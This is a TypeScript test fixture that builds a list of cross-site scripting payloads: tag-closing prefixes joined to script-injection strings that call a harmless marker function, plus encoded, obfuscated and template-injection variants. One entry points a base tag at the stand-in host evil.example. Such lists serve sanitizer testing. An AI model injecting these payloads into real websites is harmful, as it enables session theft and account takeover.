/** What ends the markup around a text, wherever it may stand. */
const exits = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea></button>',
  '-->',
  '</td></tr></table>',
  '</p></blockquote>',
]

/** What would then call `ran()`, or lead elsewhere. */
const scripts = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<a href="javascript:ran()">here</a>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<body onload=ran()>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<form action="javascript:ran()"><button autofocus>x</button></form>',
  '<template><script>ran()</script></template>',
  '<!--<img src="--><img src=x onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<x onfocus=ran() autofocus tabindex=1>',
]

/** Without a tag of its own, or in a disguise. */
const others = [
  '" onfocus="ran()" autofocus x="',
  "' onmouseover='ran()' x='",
  '` onclick=`ran()`',
  ' onclick=ran() ',
  '" style="background:url(javascript:ran())',
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<<script>ran();//<</script>',
  '<ScRiPt\n>ran()</sCrIpT\n>',
  '<script/x>ran()</script>',
  '<img/src=x/onerror=ran()>',
  '<\u2028script>ran()</script>',
  '＜script＞ran()＜/script＞',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '*/ran()/*',
  '";ran();//',
  ']]><script>ran()</script>',
  '<?xml version="1.0"?><script>ran()</script>',
]

/** Texts that want to be more than text. */
export const scriptPayloads: readonly string[] = [
  ...exits.flatMap((exit) => scripts.map((script) => exit + script)),
  ...others,
]
